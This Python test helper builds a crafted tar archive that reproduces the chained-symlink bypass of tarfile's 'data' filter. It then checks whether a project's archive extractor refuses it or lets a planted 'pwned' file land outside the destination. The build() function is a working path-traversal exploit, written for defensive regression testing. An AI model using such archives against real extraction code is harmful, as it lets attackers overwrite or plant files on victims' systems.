"""The chained-symlink tar archive (the tarfile "data" filter bypass fixed in
Python 3.11.13 / 3.12.11 / 3.13.4), standard library only.

Imported by the tests, and run as a script under other Pythons (`PYTHONPATH=model
python3.13 tests/unit/chained_links.py`): it then builds the archive in a temporary
folder, extracts it with `sagemaker_platform.archives` and prints what happened as JSON.

No member name holds `..`. Sixteen symlinks `a`, `a/b`, ... each point at a 247-character
folder name, so that `a/b/.../p` is a path longer than PATH_MAX once resolved; under it a
254-character link leads back up sixteen levels. Python's `os.path.realpath` gives up on
the long path and reads the rest literally (inside the destination), while the kernel
resolves it: the `escape` link and the file written through it land outside.
"""

from __future__ import annotations

import io
import json
import os
import sys
import tarfile
import tempfile
from pathlib import Path

STEPS = "abcdefghijklmnop"
LONG_DIR = "d" * 247
LONG_LINK = "l" * 254
PLANTED = b"planted by the archive\n"


def add(tar: tarfile.TarFile, name: str, kind: bytes, link: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(data)
    tar.addfile(info, io.BytesIO(data) if data else None)


def build(path: Path, levels_up: int = 2, planted: str = "pwned") -> Path:
    """The archive at `path`: extracted into `dest`, the planted file would land in
    `levels_up` folders above `dest` (1: beside it)."""
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        folder = ""
        for step in STEPS:
            add(tar, os.path.join(folder, LONG_DIR), tarfile.DIRTYPE)
            add(tar, os.path.join(folder, step), tarfile.SYMTYPE, LONG_DIR)
            folder = os.path.join(folder, step)
        back = os.path.join(*STEPS, LONG_LINK)
        add(tar, back, tarfile.SYMTYPE, os.path.join(*[".."] * len(STEPS)))
        add(tar, "escape", tarfile.SYMTYPE, back + "/.." * levels_up)
        add(tar, f"escape/{planted}", tarfile.REGTYPE, data=PLANTED)
    with tarfile.open(path) as tar:
        assert not any(".." in name.split("/") for name in tar.getnames())
    return path


def main() -> None:
    from sagemaker_platform import archives
    from sagemaker_platform.errors import UserError

    with tempfile.TemporaryDirectory(prefix="chained-links-") as tmp:
        root = Path(tmp)
        dest = root / "scratch" / "model"
        tarball = build(root / "model.tar.gz")
        try:
            archives.extract(tarball, dest, "pretrained/model.tar.gz")
            refused = None
        except UserError as exc:
            refused = str(exc)
        written = sorted(str(p) for p in root.rglob("pwned"))
        outside = [p for p in written if not Path(p).is_relative_to(dest)]
    print(json.dumps({"python": sys.version.split()[0], "refused": refused, "outside": outside}))


if __name__ == "__main__":
    main()
